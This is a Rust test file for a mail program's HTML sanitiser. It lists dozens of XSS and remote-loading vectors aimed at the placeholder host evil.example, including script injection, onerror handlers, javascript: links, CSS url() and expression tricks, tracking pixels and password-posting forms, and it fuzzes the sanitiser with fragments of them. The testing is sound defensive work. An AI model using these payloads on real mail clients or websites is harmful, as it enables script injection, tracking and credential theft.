//! Tests of the cleaning: vectors that people attack mail programs with, and what must hold for any HTML at all.

use proptest::prelude::*;

use super::*;
use crate::domain::mail::pictures::{MOST_PICTURE_BYTES, data_address};

/// Each tries to run something, to load something or to leave its place.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>x",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/pixel.gif' width=1 height=1>",
    "<img src=//evil.example/p.gif>",
    "<img src=\"h&#116;tp://evil.example/p.gif\">",
    "<img srcset='http://evil.example/a.png 1x, http://evil.example/b.png 2x'>",
    "<picture><source srcset='https://evil.example/a.webp'><img src='cid:none'></picture>",
    "<img lowsrc=http://evil.example/a dynsrc=http://evil.example/b>",
    "<body onload=alert(1) background='http://evil.example/b.png'>x</body>",
    "<div onclick='alert(1)' onmouseover=alert(2)>x</div>",
    "<svg onload=alert(1)><script>alert(2)</script><image href='http://evil.example/s'/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jAvA\tscript:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='http://good.example' ping='http://evil.example/p' target=_self>x</a>",
    "<a href='/relative'>x</a><a href='//evil.example'>y</a>",
    "<div style='background:url(http://evil.example/x.png)'>x</div>",
    "<div style='width: expression(alert(1))'>x</div>",
    "<div style='color: red; background-image: u\\72l(http://evil.example)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
    "<div style=\"list-style:url('https://evil.example/l.png')\">x</div>",
    "<style>@import 'http://evil.example/x.css'; body { background: url(http://evil.example/y) }</style>x",
    "<link rel=stylesheet href='http://evil.example/x.css'>x",
    "<link rel=dns-prefetch href='//evil.example'>x",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>x",
    "<base href='http://evil.example/'><a href='x'>x</a>",
    "<form action='http://evil.example'><input name=password><button formaction='http://evil.example'>x</button></form>",
    "<iframe src='http://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='http://evil.example/x.swf'></object><embed src='http://evil.example/x.swf'>",
    "<video poster='http://evil.example/p.png' src='http://evil.example/v.mp4' autoplay></video>",
    "<audio src='http://evil.example/a.mp3' autoplay></audio>",
    "<table background='http://evil.example/t.png'><tr><td background='http://evil.example/c.png'>x</td></tr></table>",
    "<input type=image src='http://evil.example/i.png'>",
    "<!--[if mso]><img src='http://evil.example/m.png'><![endif]-->x",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "<textarea></textarea><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<img alt='`<script>alert(1)</script>' src=x>",
    "<font color='red\" onclick=\"alert(1)'>x</font>",
    "<a href='https://x.example/\" onclick=\"alert(1)'>x</a>",
    "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)",
    "<ol type='http://evil.example'><li>x</ol>",
    "<portal src='http://evil.example'></portal><frameset><frame src='http://evil.example'></frameset>",
    "<a id=x name=document href=https://good.example class=y>x</a>",
];

/// A tag as a browser reads it: name, and attributes with their values.
type Tag = (String, Vec<(String, String)>);

/// Reads what was cleaned, which is well-formed: every attribute is quoted.
fn tags(html: &str) -> Vec<Tag> {
    let tag = Regex::new(r#"<(/?[a-zA-Z!][^\s/>]*)((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*/?>"#).unwrap();
    let attribute = Regex::new(r#"\s+([^\s=>]+)(?:="([^"]*)")?"#).unwrap();
    let text = |found: Option<regex::Match<'_>>| found.map_or("", |found| found.as_str()).to_lowercase();
    tag.captures_iter(html)
        .map(|found| {
            let attributes = attribute.captures_iter(&found[2]);
            let attributes = attributes.map(|one| (text(one.get(1)), text(one.get(2))));
            (found[1].to_lowercase(), attributes.collect())
        })
        .collect()
}

/// What must hold for anything that is shown.
fn check(html: &str) -> Result<(), String> {
    let found = tags(html);
    // nothing that opens a tag escaped the reading above
    if html.matches('<').count() != found.len() {
        return Err(format!("an odd tag in {html}"));
    }
    for (name, attributes) in found {
        let name = name.trim_start_matches('/').to_owned();
        if !TAGS.contains(&name.as_str()) {
            return Err(format!("<{name}> in {html}"));
        }
        for (attribute, value) in attributes {
            let is_link = name == "a" && attribute == "href";
            if attribute.starts_with("on") {
                return Err(format!("{attribute} in {html}"));
            }
            let is_picture = attribute == "src" && value.starts_with("data:image/");
            let is_away = value.contains("//") || value.contains("http:") || value.contains("https:");
            if is_away && !is_link && !is_picture {
                return Err(format!("{attribute}={value} in {html}"));
            }
            if is_link && !LINKS.iter().any(|start| value.trim().starts_with(start)) {
                return Err(format!("{attribute}={value} in {html}"));
            }
            if attribute == "src" && (!is_picture || value.contains("svg")) {
                return Err(format!("{attribute}={value} in {html}"));
            }
            if attribute == "style"
                && ["expression", "position", "url("]
                    .iter()
                    .any(|word| value.contains(word))
            {
                return Err(format!("{attribute}={value} in {html}"));
            }
        }
    }
    Ok(())
}

#[test]
fn no_attack_gets_through() {
    for attack in ATTACKS {
        let shown = sanitise(attack, &HashMap::new()).html;
        check(&shown).unwrap_or_else(|why| panic!("{attack}\n{why}"));
        assert!(
            !shown.contains("alert(1)") || !shown.contains("<script"),
            "{attack} → {shown}"
        );
    }
    let all = ATTACKS.concat();
    check(&sanitise(&all, &HashMap::new()).html).unwrap();
}

#[test]
fn what_would_load_from_elsewhere_is_counted() {
    for (html, blocked) in [
        ("<p>x</p>", 0),
        ("<img src=cid:a><a href=http://x.example>x</a>", 0),
        ("<img src=http://x.example/a><img src=//x.example/b>", 2),
        ("<img src='h&#116;tps://x.example/a'>", 1),
        ("<td background='http://x.example/a'>", 1),
        (
            "<style>a { background: url(https://x.example/a) } @import 'x.css';</style>",
            2,
        ),
        (
            "<link rel=stylesheet href=https://x.example/a.css><script src=//x.example/a.js></script>",
            2,
        ),
        ("<div style=\"background:url('http://x.example/a')\">x</div>", 1),
        (
            "<video src=http://x.example/a poster=http://x.example/b></video>",
            2,
        ),
    ] {
        assert_eq!(sanitise(html, &HashMap::new()).blocked_remote, blocked, "{html}");
    }
}

#[test]
fn the_looks_of_a_mail_stay() {
    let html = "<table border=\"1\" style='border-collapse: collapse; position: absolute'><tr><td colspan=\"2\" \
                style='color: rgb(1, 2, 3); COLOR: red'>批号</td></tr></table><b>变色</b><br><font color='#ff0000'>急</font>";
    let shown = sanitise(html, &HashMap::new()).html;
    assert_eq!(
        shown,
        "<table border=\"1\" style=\"border-collapse: collapse\"><tbody><tr><td colspan=\"2\" style=\"color: rgb(1, 2, \
         3); color: red\">批号</td></tr></tbody></table><b>变色</b><br><font color=\"#ff0000\">急</font>"
    );
    let link = sanitise(
        "<a href='https://x.example/?a=1&amp;b=2' onclick=x>x</a>",
        &HashMap::new(),
    )
    .html;
    for part in [
        "href=\"https://x.example/?a=1&amp;b=2\"",
        "target=\"_blank\"",
        "rel=\"noopener noreferrer\"",
    ] {
        assert!(link.contains(part), "{link}");
    }
}

#[test]
fn small_pictures_that_came_along_are_shown_in_their_place() {
    let png = [b"\x89PNG\r\n\x1a\n".as_slice(), &[7; 100]].concat();
    let pictures = HashMap::from([
        ("p1@x".to_owned(), png.clone()),
        (
            "large".to_owned(),
            [png.as_slice(), &[7; MOST_PICTURE_BYTES]].concat(),
        ),
        ("vector".to_owned(), b"<svg onload='alert(1)'/>".to_vec()),
    ]);
    for (address, is_shown) in [
        ("cid:p1@x", true),
        ("CID:p1%40x", true),
        ("cid:large", false),
        ("cid:vector", false),
        ("cid:other", false),
        ("cid:p1@x\" onerror=\"alert(1)", false),
    ] {
        let shown = sanitise(&format!("<img alt='图' src='{address}'>"), &pictures);
        assert_eq!(
            shown.html.contains("src=\"data:image/png;base64,"),
            is_shown,
            "{address}: {}",
            shown.html
        );
        assert!(shown.html.contains("图") && shown.blocked_remote == 0);
        check(&shown.html).unwrap();
    }
    let own = sanitise(
        &format!("<img src='{}'>", data_address("image/svg+xml", &png)),
        &pictures,
    );
    assert!(
        own.html.contains("data:image/png"),
        "a picture is what its bytes are: {}",
        own.html
    );
}

#[test]
fn many_pictures_do_not_make_a_message_that_nothing_carries() {
    let picture = [b"\x89PNG\r\n\x1a\n".as_slice(), &[7; MOST_PICTURE_BYTES - 8]].concat();
    let pictures: HashMap<_, _> = (0..50).map(|n| (n.to_string(), picture.clone())).collect();
    let html: String = (0..50).map(|n| format!("<img src='cid:{n}'>")).collect();
    let shown = sanitise(&html, &pictures).html;
    assert_eq!(
        shown.matches("data:image/png").count(),
        MOST_PICTURES_BYTES / MOST_PICTURE_BYTES
    );
}

#[test]
fn one_picture_named_a_thousand_times_is_shown_as_often_as_there_is_room() {
    let picture = [b"\x89PNG\r\n\x1a\n".as_slice(), &[7; 100 * 1024]].concat();
    let pictures = HashMap::from([("p".to_owned(), picture)]);
    let html = sanitise(&"<img src='cid:p'>".repeat(1_000), &pictures).html;
    assert_eq!(html.matches("<img").count(), 1_000);
    assert!(html.matches("data:image/png").count() >= 2 && html.len() < 512 * 1024);
}

/// HTML as an attacker would put it together: pieces of attacks, broken tags, entities, any text.
fn html() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        prop::sample::select(ATTACKS).prop_map(str::to_owned),
        prop::sample::select(ATTACKS).prop_flat_map(|attack| (0..attack.len()).prop_map(move |cut| {
            let cut = (0..=cut)
                .rev()
                .find(|at| attack.is_char_boundary(*at))
                .unwrap_or(0);
            attack[..cut].to_owned()
        })),
        prop::sample::select(
            &[
                "<",
                ">",
                "\"",
                "'",
                "<!--",
                "-->",
                "<![CDATA[",
                "]]>",
                "&lt;",
                "&#60;",
                "</",
                "<p ",
                "style=",
                "href=",
                "src=",
                "http://evil.example",
                "javascript:",
                "onload=",
                "<svg>",
                "</svg>",
                "<math>",
                "<style>",
                "</style>",
                "<table>",
                "<tr>",
                "<img ",
                "<a ",
                "\0",
                "`",
                "=",
                "/",
                " ",
                "url(",
                "<select>",
                "<noscript>",
            ][..]
        )
        .prop_map(str::to_owned),
        "[ -~]{0,12}",
        "\\PC{0,6}",
    ];
    prop::collection::vec(piece, 0..12).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn whatever_comes_nothing_runs_and_nothing_loads(html in html()) {
        let shown = sanitise(&html, &HashMap::new()).html;
        prop_assert!(check(&shown).is_ok(), "{html:?} → {}", check(&shown).unwrap_err());
        // what a browser makes of it and gives back is as safe
        let again = sanitise(&shown, &HashMap::new()).html;
        prop_assert!(check(&again).is_ok(), "{shown:?} → {}", check(&again).unwrap_err());
    }
}
